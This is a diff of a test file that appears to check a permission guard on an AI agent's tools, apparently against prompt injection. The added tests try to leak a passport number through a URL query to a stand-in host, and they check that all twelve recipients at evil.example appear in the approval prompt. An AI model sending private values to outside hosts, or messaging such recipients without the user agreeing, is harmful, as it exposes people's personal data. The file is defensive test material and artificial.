@@ -223,6 +223,14 @@ test("a private value does not leave unasked once text of others was read", asyn
   expect(await call("send", { to: "ann", body: "My passport: hgk137803." })).toBe(false);
   expect(asked).toEqual([expect.stringContaining("private value of get_profile")]);
   expect(await call("send", { to: "ann", body: "Hello." })).toBe(true);
+  expect(await call("fetch", { url: "https://a.example/?p=HGK137803" })).toBe(false);
+});
+
+test("every recipient is shown, since all of them are agreed to", async () => {
+  const recipients = Array.from({ length: 12 }, (_, i) => `colleague${i}@evil.example`);
+  const { asked, call } = await open(`Send it to ${recipients.join(" and ")}`);
+  expect(await call("send", { recipients })).toBe(false);
+  for (const each of recipients) expect(asked[0]).toContain(each);
 });
 
 test("texts of others cannot forge the prompt", async () => {
